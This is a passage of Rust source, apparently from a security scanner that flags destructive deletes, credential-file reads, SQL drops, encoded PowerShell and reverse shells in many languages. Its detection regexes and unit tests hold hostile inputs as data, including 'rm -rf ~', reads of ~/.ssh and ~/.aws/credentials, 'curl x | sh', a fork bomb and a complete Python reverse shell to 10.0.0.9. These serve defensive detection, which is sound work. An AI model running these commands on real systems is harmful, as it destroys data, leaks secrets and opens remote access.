            if let [m, "as", a] = item.split_whitespace().collect::<Vec<_>>().as_slice() {
                if known(m) {
                    names.push((a.to_string(), m.to_string()));
                }
            }
        }
    }
    for c in from_import.captures_iter(&code) {
        if !known(&c[1]) {
            continue;
        }
        for item in c[2].split(',') {
            let parts: Vec<&str> = item.split_whitespace().collect();
            match parts.as_slice() {
                [f, "as", a, ..] => names.push((a.to_string(), format!("{}.{f}", &c[1]))),
                [f, ..] if *f != "*" => names.push((f.to_string(), format!("{}.{f}", &c[1]))),
                _ => {}
            }
        }
    }
    for c in js_assign.captures_iter(&code) {
        if known(&c[2]) {
            names.push((c[1].to_string(), c[2].to_string()));
        }
    }
    for c in js_destructure.captures_iter(&code) {
        if !known(&c[2]) {
            continue;
        }
        for item in c[1].split(',') {
            let (f, a) = item.split_once(':').unwrap_or((item, item));
            let (f, a) = (f.trim(), a.trim());
            if !f.is_empty() && !a.is_empty() {
                names.push((a.to_string(), format!("{}.{f}", &c[2])));
            }
        }
    }
    for c in js_import.captures_iter(&code) {
        let m = module(&c[4]);
        if !known(&m) {
            continue;
        }
        if let Some(items) = c.get(1) {
            for item in items.as_str().split(',') {
                let parts: Vec<&str> = item.split_whitespace().collect();
                match parts.as_slice() {
                    [f, "as", a] => names.push((a.to_string(), format!("{m}.{f}"))),
                    [f] => names.push((f.to_string(), format!("{m}.{f}"))),
                    _ => {}
                }
            }
        } else if let Some(a) = c.get(2).or_else(|| c.get(3)) {
            names.push((a.as_str().to_string(), m));
        }
    }
    for c in js_then.captures_iter(&code) {
        if known(&c[1]) {
            names.push((c[2].to_string(), c[1].to_string()));
        }
    }
    names.retain(|(a, t)| a != t && a.chars().all(|c| c == '_' || c.is_ascii_alphanumeric()));
    if names.is_empty() {
        return (code != original).then_some(code);
    }
    for (alias, target) in names.iter().take(16) {
        if let Ok(re) = Regex::new(&format!(r"\b{}\s*([.(])", regex::escape(alias))) {
            code = re
                .replace_all(&code, |c: &regex::Captures| format!("{target}{}", &c[1]))
                .into_owned();
        }
    }
    Some(code)
}

/// PowerShell: `Remove-Item -Recurse`, `rm -r`, and every other command read as a command
/// line; `iex` of downloaded text is code fetched and run.
fn scan_powershell(code: &str) -> CodeFacts {
    static RES: OnceLock<Option<(Regex, Regex, Regex)>> = OnceLock::new();
    let mut f = CodeFacts::default();
    let Some((names, recurse, iex)) = RES.get_or_init(|| {
        Some((
            Regex::new(r"(?i)\b(Remove-Item|ri|del|erase|rd|rmdir)\b").ok()?,
            Regex::new(r"(?i)(^|\s)-(Recurse|r)\b").ok()?,
            Regex::new(r"(?i)\b(iex|Invoke-Expression|Invoke-Command|icm|Start-Process|saps)\b")
                .ok()?,
        ))
    }) else {
        f.dynamic_exec = true;
        return f;
    };
    let line = names.replace_all(code, "rm");
    let line = recurse.replace_all(&line, "$1-r");
    f.shell.push(line.into_owned());
    if iex.is_match(code) {
        f.dynamic_exec = true;
    }
    f
}

/// Tcl and expect: `exec PROG ARGS` and `spawn PROG ARGS` run programs.
fn scan_tcl(code: &str) -> CodeFacts {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    let mut f = CodeFacts::default();
    let Some(re) = RE.get_or_init(|| Regex::new(r"\b(exec|spawn|system)\s+([^\]\n;}]+)").ok())
    else {
        f.dynamic_exec = true;
        return f;
    };
    for c in re.captures_iter(code) {
        f.shell.push(c[2].trim().to_string());
    }
    f
}

/// Interpreter code that connects a socket and hands it a shell: a reverse shell. The hosts
/// named in the code (or `(unknown)`).
pub fn reverse_shell(code: &str) -> Option<Vec<String>> {
    static RES: OnceLock<Option<(Regex, Regex, Regex)>> = OnceLock::new();
    let (socket, shell, host) = RES
        .get_or_init(|| {
            Some((
                Regex::new(
                    r"(?i)socket\.socket|socket\s*\(|fsockopen|stream_socket_client|TCPSocket|IO::Socket|net\.Socket|net\.connect|new\s+Socket|Socket\.new|socket\.create_connection",
                )
                .ok()?,
                Regex::new(
                    r#"dup2|pty\.spawn|/bin/(ba|z|da)?sh|['"](ba|z)?sh['"]|\bsh -i|cmd\.exe|proc_open|\bexec\s*\(?\s*sprintf|\.pipe\(\s*\w+\.stdin"#,
                )
                .ok()?,
                Regex::new(r#"['"](\d{1,3}(?:\.\d{1,3}){3}|[a-zA-Z0-9-]+(?:\.[a-zA-Z0-9-]+)*\.[a-zA-Z]{2,})['"]"#).ok()?,
            ))
        })
        .as_ref()?;
    if !(socket.is_match(code) && shell.is_match(code)) {
        return None;
    }
    let mut hosts: Vec<String> = host
        .captures_iter(code)
        .map(|c| c[1].to_ascii_lowercase())
        .filter(|h| !h.ends_with(".py") && !h.ends_with(".sh"))
        .collect();
    hosts.dedup();
    if hosts.is_empty() {
        hosts.push("(unknown)".into());
    }
    Some(hosts)
}

/// What a `sed` script does beyond editing text.
#[derive(Debug, Default, PartialEq)]
pub struct SedFacts {
    /// Command lines it runs (`e CMD`, `s/…/CMD/e`).
    pub commands: Vec<String>,
    /// It runs text built from the input (`e` alone, `s/…/\1/e`).
    pub dynamic: bool,
    pub writes: Vec<String>,
    pub reads: Vec<String>,
}

/// Reads a sed script's commands (GNU syntax): addresses, `{`/`}`, `s`, `y`, `a`/`i`/`c`
/// text, `e`, `r`/`w` files, labels.
pub fn scan_sed(script: &str) -> SedFacts {
    let c: Vec<char> = script.chars().collect();
    let n = c.len();
    let mut f = SedFacts::default();
    let mut i = 0;
    let until = |i: &mut usize, delim: char| -> String {
        let mut out = String::new();
        while *i < n && c[*i] != delim {
            if c[*i] == '\\' && *i + 1 < n {
                out.push(c[*i]);
                *i += 1;
            }
            out.push(c[*i]);
            *i += 1;
        }
        *i += 1;
        out
    };
    let rest_of_line = |i: &mut usize| -> String {
        let start = *i;
        while *i < n && c[*i] != '\n' {
            *i += 1;
        }
        c[start..*i].iter().collect::<String>().trim().to_string()
    };
    let mut steps = 0;
    while i < n && steps < 10_000 {
        steps += 1;
        while i < n && matches!(c[i], ' ' | '\t' | '\n' | ';') {
            i += 1;
        }
        if i >= n {
            break;
        }
        // Up to two addresses.
        for _ in 0..2 {
            while i < n && c[i] == ' ' {
                i += 1;
            }
            if i < n && (c[i].is_ascii_digit() || c[i] == '$') {
                while i < n && (c[i].is_ascii_digit() || matches!(c[i], '$' | '~' | '+')) {
                    i += 1;
                }
            } else if i < n && c[i] == '/' {
                i += 1;
                until(&mut i, '/');
                while i < n && matches!(c[i], 'I' | 'M') {
                    i += 1;
                }
            } else if i + 1 < n && c[i] == '\\' {
                let d = c[i + 1];
                i += 2;
                until(&mut i, d);
            }
            if i < n && c[i] == ',' {
                i += 1;
                continue;
            }
            break;
        }
        while i < n && matches!(c[i], ' ' | '!') {
            i += 1;
        }
        if i >= n {
            break;
        }
        let cmd = c[i];
        i += 1;
        match cmd {
            'e' => {
                let line = rest_of_line(&mut i);
                if line.is_empty() {
                    f.dynamic = true;
                } else {
                    f.commands.push(line);
                }
            }
            's' if i < n => {
                let d = c[i];
                i += 1;
                until(&mut i, d);
                let replacement = until(&mut i, d);
                let mut flags = String::new();
                while i < n && !matches!(c[i], ';' | '\n' | '}') {
                    if c[i] == 'w' {
                        i += 1;
                        f.writes.push(rest_of_line(&mut i));
                        break;
                    }
                    flags.push(c[i]);
                    i += 1;
                }
                if flags.contains('e') {
                    if replacement.contains('&') || replacement.contains('\\') {
                        f.dynamic = true;
                    } else {
                        f.commands.push(replacement);
                    }
                }
            }
            'y' if i < n => {
                let d = c[i];
                i += 1;
                until(&mut i, d);
                until(&mut i, d);
            }
            'a' | 'i' | 'c' => {
                let mut line = rest_of_line(&mut i);
                while line.ends_with('\\') && i < n {
                    i += 1;
                    line = rest_of_line(&mut i);
                }
            }
            'r' | 'R' => f.reads.push(rest_of_line(&mut i)),
            'w' | 'W' => f.writes.push(rest_of_line(&mut i)),
            ':' | 'b' | 't' | 'T' => {
                while i < n && !matches!(c[i], ';' | '\n') {
                    i += 1;
                }
            }
            _ => {}
        }
    }
    f.writes
        .retain(|w| !w.is_empty() && w != "/dev/stdout" && w != "/dev/stderr");
    f.reads.retain(|r| !r.is_empty());
    f
}

/// The recipes of a makefile text: tab-indented lines, `target: ; recipe`, and `$(shell …)`.
pub fn make_recipes(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines() {
        if let Some(r) = line.strip_prefix('\t') {
            out.push(r.trim_start_matches(['@', '-', '+']).to_string());
        } else if let Some((head, recipe)) = line.split_once(';') {
            if head.contains(':') && !head.contains(":=") && !head.contains('=') {
                out.push(recipe.trim_start_matches(['@', '-', '+', ' ']).to_string());
            }
        }
        let mut rest = line;
        while let Some(k) = rest.find("$(shell ") {
            let tail = &rest[k + 8..];
            let end = tail.find(')').unwrap_or(tail.len());
            out.push(tail[..end].to_string());
            rest = &tail[end..];
        }
    }
    out.iter()
        .map(|r| r.replace("$$", "$"))
        .filter(|r| !r.trim().is_empty())
        .collect()
}

/// The shell command line an ex command (vim `-c`, `+cmd`) runs: `!cmd`, `r !cmd`,
/// `w !cmd`, `silent !cmd`, `terminal cmd`, `call system('cmd')`.
pub fn ex_shell(cmd: &str) -> Option<String> {
    let mut s = cmd.trim_start().trim_start_matches(':').trim_start();
    s = s
        .trim_start_matches(|c: char| {
            c.is_ascii_digit() || matches!(c, '%' | '.' | '$' | ',' | '\'' | '<' | '>')
        })
        .trim_start();
    for p in [
        "silent!",
        "silent",
        "sil!",
        "sil",
        "execute",
        "exe",
        "noautocmd",
    ] {
        if let Some(r) = s.strip_prefix(p) {
            s = r.trim_start();
        }
    }
    if let Some(r) = s.strip_prefix('!') {
        return Some(r.to_string());
    }
    for p in ["read", "r", "write", "w"] {
        if let Some(r) = s
            .strip_prefix(p)
            .and_then(|r| r.trim_start().strip_prefix('!'))
        {
            return Some(r.to_string());
        }
    }
    for p in ["terminal ", "term "] {
        if let Some(r) = s.strip_prefix(p) {
            return Some(r.trim().to_string());
        }
    }
    let k = s.find("system(")?;
    leading_literal(&s[k + 7..])
}

#[cfg(test)]
mod tests {

    /// Paths named in literals count as reads whatever call takes them; pieces joined to the
    /// home when the code refers to it.
    #[test]
    fn paths_named_in_literals() {
        let f = scan_code("import os;print(os.listdir('/root/.ssh'))", "python");
        assert_eq!(f.reads, vec!["/root/.ssh".to_string()]);
        let f = scan_code(
            "puts File.read(File.join(Dir.home, '.aws', 'credentials'))",
            "ruby",
        );
        assert!(f.reads.contains(&"~/.aws/credentials".to_string()), "{f:?}");
        let f = scan_code("print('/'.join(['a', 'b']), 'hello world')", "python");
        assert!(f.reads.is_empty(), "{f:?}");
        let f = scan_code("open('/tmp/out.json', 'w').write('x')", "python");
        assert_eq!(f.writes, vec!["/tmp/out.json".to_string()]);
        assert!(f.reads.is_empty(), "{f:?}");
    }

    use super::*;

    #[test]
    fn sql_verbs_found() {
        assert_eq!(sql_verbs("DROP DATABASE prod;"), vec!["drop_database"]);
        assert_eq!(sql_verbs("truncate table users"), vec!["truncate"]);
        assert_eq!(sql_verbs("COPY users TO '/tmp/u.csv'"), vec!["copy_to"]);
        assert!(sql_verbs("select * from t where x = 'drop'").is_empty());
        assert_eq!(sql_verbs("DELETE FROM users;"), vec!["delete_all"]);
        assert_eq!(sql_verbs("db.orders.deleteMany({})"), vec!["delete_all"]);
        assert!(sql_verbs("db.orders.deleteMany({status: 'old'})").is_empty());
        assert!(sql_verbs("DELETE FROM users WHERE id = 3").is_empty());
    }

    #[test]
    fn interpreter_code() {
        let f = scan_code("import shutil; shutil.rmtree('/home/u')", "python");
        assert_eq!(f.recursive_deletes, vec![Some("/home/u".to_string())]);
        let f = scan_code("import os; os.system('rm -rf ~')", "python");
        assert_eq!(f.shell, vec!["rm -rf ~".to_string()]);
        let f = scan_code(
            "require('fs').rmSync('dist', {recursive: true, force: true})",
            "node",
        );
        assert_eq!(f.recursive_deletes.len(), 1);
        let f = scan_code("require('fs').rmSync('a.txt')", "node");
        assert!(f.recursive_deletes.is_empty());
        assert_eq!(
            code_source(
                "perl",
                &["-MFile::Path=remove_tree".into(), "-e".into(), "x".into()]
            ),
            CodeSource::Inline(vec!["x".into()])
        );
        let f = scan_code("require('fs').rmSync('a.txt')", "node");
        assert!(f.recursive_deletes.is_empty());
        let f = scan_code("print(open('.env').read())", "python");
        assert_eq!(f.reads, vec![".env".to_string()]);
        assert!(scan_code("fork while fork", "perl").fork_bomb);
        let f = scan_code("subprocess.run(['git','push','-f'])", "python");
        assert_eq!(f.argv[0], vec!["git", "push", "-f"]);
        assert_eq!(
            code_source("python", &["-c".into(), "print(1)".into()]),
            CodeSource::Inline(vec!["print(1)".into()])
        );
        assert_eq!(code_source("python", &["x.py".into()]), CodeSource::Script);
        assert_eq!(code_source("python", &[]), CodeSource::Stdin);
    }
}

#[cfg(test)]
mod awk_tests {
    use super::*;

    #[test]
    fn awk_commands_found() {
        let c = scan_awk(r#"BEGIN { system("rm -rf /home/dev") }"#);
        assert_eq!(c.shell, vec!["rm -rf /home/dev".to_string()]);
        assert!(scan_awk(r#"{ system("rm -rf " $1) }"#).dynamic);
        assert!(scan_awk(r#"{ print "rm " $1 | "sh" }"#).dynamic);
        let c = scan_awk(r#"{ print $1 | "sort -u" }"#);
        assert_eq!(c.shell, vec!["sort -u".to_string()]);
        let c = scan_awk(r#"BEGIN { "date +%s" | getline t; print t }"#);
        assert_eq!(c.shell, vec!["date +%s".to_string()]);
        assert_eq!(
            scan_awk(r#"BEGIN { print "rm -rf /" }"#),
            AwkCalls::default()
        );
        assert_eq!(
            scan_awk(r#"$3 > 0 || $4 > 0 { print }"#),
            AwkCalls::default()
        );
    }
}

#[cfg(test)]
mod hidden_code_tests {
    use super::*;

    #[test]
    fn sql_comments_do_not_hide_verbs() {
        assert_eq!(sql_verbs("DROP/**/DATABASE prod"), vec!["drop_database"]);
        assert_eq!(sql_verbs("drop -- x\ndatabase prod"), vec!["drop_database"]);
    }

    #[test]
    fn sed_scripts_that_run_and_write() {
        let f = scan_sed("1e rm -rf ~");
        assert_eq!(f.commands, vec!["rm -rf ~".to_string()]);
        assert_eq!(
            scan_sed("s/.*/rm -rf ~/e").commands,
            vec!["rm -rf ~".to_string()]
        );
        assert!(scan_sed("s/x/\\1/e").dynamic);
        assert_eq!(
            scan_sed("w /home/u/.bashrc").writes,
            vec!["/home/u/.bashrc".to_string()]
        );
        assert_eq!(scan_sed("s/e/E/g"), SedFacts::default());
        assert_eq!(scan_sed("$a curl x | sh"), SedFacts::default());
        assert_eq!(scan_sed("1,20p;/re/d"), SedFacts::default());
    }

    #[test]
    fn make_recipes_and_ex_commands() {
        assert_eq!(
            make_recipes("all:\n\t@rm -rf ~\n"),
            vec!["rm -rf ~".to_string()]
        );
        assert_eq!(make_recipes("x:; rm -rf ~"), vec!["rm -rf ~".to_string()]);
        assert_eq!(ex_shell(":!rm -rf ~").as_deref(), Some("rm -rf ~"));
        assert_eq!(ex_shell("silent !ls").as_deref(), Some("ls"));
        assert_eq!(ex_shell("r !id").as_deref(), Some("id"));
        assert_eq!(ex_shell("call system('id')").as_deref(), Some("id"));
        assert_eq!(ex_shell("set number"), None);
        assert_eq!(ex_shell("wq"), None);
    }

    #[test]
    fn calls_through_aliases_are_the_modules_calls() {
        let f = scan_code("import subprocess as s; s.run(['rm','-rf','/x'])", "python");
        assert_eq!(f.argv, vec![vec!["rm", "-rf", "/x"]]);
        let f = scan_code("from shutil import rmtree as r; r('/x')", "python");
        assert!(f.recursive_deletes.contains(&Some("/x".to_string())));
        let f = scan_code(
            "const {rmSync: x} = require('fs'); x('/x', {recursive: true})",
            "node",
        );
        assert_eq!(f.recursive_deletes, vec![Some("/x".to_string())]);
        let f = scan_code("require('fs/promises').rm('/x', {recursive:true})", "node");
        assert_eq!(f.recursive_deletes.len(), 1);
    }

    #[test]
    fn calls_named_in_strings_are_data() {
        let f = scan_code("print('shutil.rmtree(\"/\") is dangerous')", "python");
        assert!(f.recursive_deletes.is_empty());
        let f = scan_code(
            "open('a.md','w').write(\"os.system('rm -rf ~')\")",
            "python",
        );
        assert!(f.shell.is_empty());
        assert_eq!(f.writes, vec!["a.md".to_string()]);
        let f = scan_code("exec(\"import os; os.system(\\\"rm -rf ~\\\")\")", "python");
        assert_eq!(f.shell, vec!["rm -rf ~".to_string()]);
    }

    /// PowerShell takes any prefix of a parameter past its shortest form, so option words
    /// are resolved the way it resolves them; an encoded command is decoded and read.
    #[test]
    fn powershell_parameters_and_encoded_commands() {
        for (arg, want) in [
            ("-NoP", Some(PwshParam::Switch)),
            ("-Exec", Some(PwshParam::Value)),
            ("-W", Some(PwshParam::Value)),
            ("-wd", Some(PwshParam::Value)),
            ("-e", Some(PwshParam::Encoded)),
            ("-Enc", Some(PwshParam::Encoded)),
            ("--EncodedCommand", Some(PwshParam::Encoded)),
            ("/enc", Some(PwshParam::Encoded)),
            ("-comm", Some(PwshParam::Command)),
            ("-f", Some(PwshParam::File)),
            ("-no", None),
            ("./x.ps1", None),
            ("/tmp/x.ps1", None),
        ] {
            assert_eq!(pwsh_param(arg), want, "{arg}");
        }
        let args = |s: &str| s.split(' ').map(String::from).collect::<Vec<_>>();
        // "Get-ChildItem" as UTF-16LE, base64.
        let enc = "RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=";
        assert_eq!(pwsh_decode(enc).as_deref(), Some("Get-ChildItem"));
        assert_eq!(
            code_source(
                "powershell",
                &args(&format!("-NoP -W Hidden -Exec Bypass -Enc {enc}"))
            ),
            CodeSource::Inline(vec!["Get-ChildItem".into()])
        );
        // Not base64, UTF-8 rather than UTF-16LE, a variable: code that cannot be read.
        for bad in ["!!!", "R2V0LUNoaWxkSXRlbQ==", "$payload", ""] {
            assert_eq!(pwsh_decode(bad), None, "{bad}");
        }
        assert_eq!(
            code_source("powershell", &args("-enc $payload")),
            CodeSource::Inline(vec!["Invoke-Expression $encoded".into()])
        );
        assert_eq!(
            code_source("powershell", &args("./build.ps1")),
            CodeSource::Script
        );
        assert_eq!(
            code_source("powershell", &args("-File -")),
            CodeSource::Stdin
        );
        assert_eq!(interpreter("PowerShell.exe"), Some("powershell"));
        assert_eq!(interpreter("pwsh.exe"), Some("powershell"));
    }

    #[test]
    fn more_languages() {
        assert_eq!(interpreter("Rscript"), Some("r"));
        assert_eq!(interpreter("lua5.4"), Some("lua"));
        assert_eq!(interpreter("pwsh"), Some("powershell"));
        let f = scan_code("os.execute(\"rm -rf ~\")", "lua");
        assert_eq!(f.shell, vec!["rm -rf ~".to_string()]);
        let f = scan_code("system2(\"rm\", c(\"-rf\", \"/x\"))", "r");
        assert_eq!(f.argv, vec![vec!["rm", "-rf", "/x"]]);
        let f = scan_code("rm(\"/x\"; recursive=true)", "julia");
        assert_eq!(f.recursive_deletes, vec![Some("/x".to_string())]);
        let f = scan_code("Remove-Item -Recurse -Force ~/p", "powershell");
        assert_eq!(f.shell, vec!["rm -r -Force ~/p".to_string()]);
        assert_eq!(
            scan_code("exec rm -rf /x", "tcl").shell,
            vec!["rm -rf /x".to_string()]
        );
    }

    #[test]
    fn reverse_shells_in_code() {
        let code = "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")";
        assert_eq!(reverse_shell(code), Some(vec!["10.0.0.9".to_string()]));
        assert_eq!(reverse_shell("import socket; socket.gethostname()"), None);
    }
}
